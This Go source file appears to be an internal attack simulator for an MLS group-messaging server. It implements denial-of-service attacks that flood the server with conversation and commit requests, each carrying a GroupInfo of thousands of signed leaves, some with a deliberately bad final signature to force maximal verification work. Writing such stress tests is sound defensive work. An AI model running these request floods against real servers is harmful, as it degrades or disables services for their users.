package attack

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/sha512"
	"encoding/hex"
	"fmt"
	"net/http"
	"time"

	"github.com/bluesky-social/indigo/atproto/syntax"
	"golang.org/x/crypto/cryptobyte"

	"mlsd/api/mlsapi"
	"mlsd/clientsim/mlsclient"
	. "mlsd/clientsim/steps"
	"mlsd/clientsim/testbed"
	"mlsd/clientsim/xrpc"
	"mlsd/mls"
)

// H1: a GroupInfo with thousands of leaves, each with a signature to verify.
func costly() []Attack {
	return []Attack{
		{"groupinfo", "H1", "one DID creates a convo with a GroupInfo of 4,800 signed leaves, again and again",
			costlyCreate(ed25519Suite, 1, 1)},
		{"groupinfo-many", "H1", "16 DIDs of 16 addresses do so", costlyCreate(ed25519Suite, 16, 16)},
		{"groupinfo-p521", "H1", "one DID does so with leaves that take longest to verify", costlyCreate(p521Suite, 1, 1)},
		{"commits", "H1", "one DID submits commits and additions with a GroupInfo of 4,800 leaves, the last one false",
			costlyCommits},
	}
}

// infoSuite is a cipher suite of a costly GroupInfo.
type infoSuite struct {
	suite mls.CipherSuite
	name  string
	hash  int // in bytes
	// share is the part of the configured leaves that fits into the largest GroupInfo.
	share float64
	key   func() (public, hpke []byte, sign func(content []byte) []byte, err error)
}

var ed25519Suite = infoSuite{1, mlsclient.SuiteX25519.Name(), 32, 1,
	func() (public, hpke []byte, sign func([]byte) []byte, err error) {
		public, key, err := ed25519.GenerateKey(rand.Reader)
		// Nearly all strings of 32 bytes are public keys of X25519.
		return public, mlsclient.RandomBytes(32), func(content []byte) []byte { return ed25519.Sign(key, content) }, err
	}}

var p521Suite = infoSuite{5, "MLS_256_DHKEMP521_AES256GCM_SHA512_P521", 64, 0.4,
	func() (public, hpke []byte, sign func([]byte) []byte, err error) {
		defer Catch(&err)
		key := Must(ecdsa.GenerateKey(elliptic.P521(), rand.Reader))
		public = Must(key.PublicKey.Bytes())
		return public, public, func(content []byte) []byte {
			digest := sha512.Sum512(content)
			signature, err := key.Sign(rand.Reader, digest[:], crypto.SHA512)
			if err != nil {
				return nil // the server refuses the leaf
			}
			return signature
		}, nil
	}}

// Bounds of a costly GroupInfo by the server's rules for its roster.
const (
	leavesPerPerson = 48
	maxPeople       = 100
)

// costlyInfo makes a GroupInfo of a group in epoch 1 with many leaves. The first leaf has signed
// it. The leaves of each person follow each other. If lastFalse is true, the last leaf's signature
// is wrong, so the server verifies everything else first.
func costlyInfo(s infoSuite, group []byte, epoch uint64, people []syntax.DID, leaves int, lastFalse bool) ([]byte,
	error) {
	var nodes []byte
	var signInfo func([]byte) []byte
	now := time.Now()
	for i := range leaves {
		public, hpke, sign, err := s.key()
		if err != nil {
			return nil, err
		}
		if i > 0 {
			nodes = append(nodes, 0) // a blank parent
		} else {
			signInfo = sign
		}
		leaf := build(func(b *cryptobyte.Builder) {
			vector(b, hpke)
			vector(b, public)
			b.AddUint16(uint16(mls.CredentialTypeBasic))
			vector(b, []byte(people[i*len(people)/leaves]))
			for _, list := range [][]byte{{0, 1}, {0, byte(s.suite)}, {}, {}, {0, 1}} {
				vector(b, list)
			}
			b.AddUint8(1) // made for a KeyPackage
			b.AddUint64(uint64(now.Add(-time.Hour).Unix()))
			b.AddUint64(uint64(now.Add(24 * time.Hour).Unix()))
			vector(b, nil)
		})
		signature := sign(labelled("LeafNodeTBS", leaf))
		if lastFalse && i == leaves-1 {
			signature[len(signature)/2] ^= 1
		}
		nodes = append(append(nodes, 1, 1), leaf...)
		nodes = append(nodes, build(func(b *cryptobyte.Builder) { vector(b, signature) })...)
	}
	tree := build(func(b *cryptobyte.Builder) { vector(b, nodes) })
	parsed, err := mls.ParseTree(s.suite, tree)
	if err != nil {
		return nil, fmt.Errorf("costly GroupInfo: %w", err)
	}
	info := build(func(b *cryptobyte.Builder) {
		b.AddUint16(uint16(mls.VersionMLS10))
		b.AddUint16(uint16(s.suite))
		vector(b, group)
		b.AddUint64(epoch)
		vector(b, parsed.Hash())
		vector(b, make([]byte, s.hash))
		vector(b, nil)
		vector(b, build(func(b *cryptobyte.Builder) {
			b.AddUint16(uint16(mls.ExtensionRatchetTree))
			vector(b, tree)
		}))
		vector(b, make([]byte, s.hash))
		b.AddUint32(0)
	})
	signature := signInfo(labelled("GroupInfoTBS", info))
	return build(func(b *cryptobyte.Builder) {
		b.AddUint16(uint16(mls.VersionMLS10))
		b.AddUint16(uint16(mls.WireFormatGroupInfo))
		b.AddBytes(info)
		vector(b, signature)
	}), nil
}

// labelled returns the bytes that SignWithLabel signs (RFC 9420 §5.1.2).
func labelled(label string, content []byte) []byte {
	return build(func(b *cryptobyte.Builder) {
		vector(b, []byte("MLS 1.0 "+label))
		vector(b, content)
	})
}

func build(f func(*cryptobyte.Builder)) []byte {
	b := cryptobyte.NewBuilder(nil)
	f(b)
	return b.BytesOrPanic()
}

// vector writes opaque<V> (RFC 9420 §2.1.2).
func vector(b *cryptobyte.Builder, content []byte) {
	switch n := len(content); {
	case n < 1<<6:
		b.AddUint8(uint8(n))
	case n < 1<<14:
		b.AddUint16(uint16(n) | 1<<14)
	default:
		b.AddUint32(uint32(n) | 2<<30)
	}
	b.AddBytes(content)
}

// leafOwners returns the attacker and as many other accounts as the leaves need. Nobody looks these
// accounts up.
func leafOwners(creator syntax.DID, leaves int) []syntax.DID {
	people := []syntax.DID{creator}
	for len(people) < min((leaves+leavesPerPerson-1)/leavesPerPerson, maxPeople) {
		people = append(people, unknownDID())
	}
	return people
}

// requestsAtOnce is how many costly requests of one DID run at one time.
const requestsAtOnce = 4

// costlyCreate repeats createConvo. The group exists after the first request, so later requests
// store nothing.
func costlyCreate(s infoSuite, dids, addresses int) prepare {
	return func(_ context.Context, t *Target) *Prepared {
		accounts := t.accounts(dids)
		bodies := make([][]byte, dids)
		for i, who := range accounts {
			leaves := max(1, int(float64(t.Leaves)*s.share))
			people, group := leafOwners(who.DID, leaves), mlsclient.RandomBytes(16)
			info := Must(costlyInfo(s, group, 1, people, leaves, false))
			epoch := int64(1)
			in := &mlsapi.CreateConvoInput{
				GroupID: hex.EncodeToString(group), CipherSuite: s.name, InitialMembers: people[1:],
				GroupInfo: info, CurrentEpoch: &epoch,
				WelcomeMessage: mlsclient.FakeWelcome(mlsclient.Suite(s.suite), mlsclient.RandomBytes(s.hash)),
			}
			bodies[i] = xrpc.Encode(in)
		}
		return &Prepared{Run: func(ctx context.Context) {
			t.repeat(ctx, accounts, addresses,
				func(i, _ int) (string, []byte) { return mlsapi.NSIDCreateConvo, bodies[i] })
		}}
	}
}

// costlyCommits repeats commits that are refused after everything but the last leaf was verified.
func costlyCommits(ctx context.Context, t *Target) *Prepared {
	accounts := t.accounts(1)
	who := accounts[0]
	people := leafOwners(who.DID, t.Leaves)
	id, group := Must2(testbed.NewConvo(ctx, t.client(0), who, people[1:], nil))
	info := Must(costlyInfo(ed25519Suite, group, 2, people, t.Leaves, true))
	commit := mlsclient.FakeCommit(group, 1, 200)
	inputs := []any{
		&mlsapi.SubmitCommitInput{ConvoID: id, Commit: commit, GroupInfo: info},
		&mlsapi.AddMembersInput{ConvoID: id, DIDList: []syntax.DID{unknownDID()}, Commit: commit, GroupInfo: info,
			WelcomeMessage: mlsclient.FakeWelcome(mlsclient.SuiteX25519, mlsclient.RandomBytes(32))},
	}
	methods := []string{mlsapi.NSIDSubmitCommit, mlsapi.NSIDAddMembers}
	var bodies [][]byte
	for _, in := range inputs {
		bodies = append(bodies, xrpc.Encode(in))
	}
	return &Prepared{Run: func(ctx context.Context) {
		t.repeat(ctx, accounts, 1, func(_, n int) (string, []byte) { return methods[n%2], bodies[n%2] })
	}}
}

// repeat makes every account call a procedure again and again, with requestsAtOnce calls at one
// time. Each call has a new idempotency key.
func (t *Target) repeat(ctx context.Context, accounts []*xrpc.Account, addresses int,
	next func(account, n int) (method string, body []byte)) {
	lanes := len(accounts) * requestsAtOnce
	webs := make([]*http.Client, addresses)
	for i := range webs {
		webs[i] = t.web(i)
	}
	Each(lanes, lanes, func(i int) {
		account, web := i%len(accounts), webs[i%addresses]
		for n := 0; ctx.Err() == nil; n++ {
			method, body := next(account, n)
			token := Must(accounts[account].Token(t.Audience, syntax.NSID(method)))
			status, _ := t.send(ctx, web, http.MethodPost, path(method), token, body, "Idempotency-Key", xrpc.NewKey())
			if status != http.StatusOK {
				xrpc.Sleep(ctx, refusedPause)
			}
		}
	})
}

// refusedPause is how long a lane of the attacker waits after a refusal. Otherwise the attacker
// would use up the processor that it shares with the server.
const refusedPause = 50 * time.Millisecond
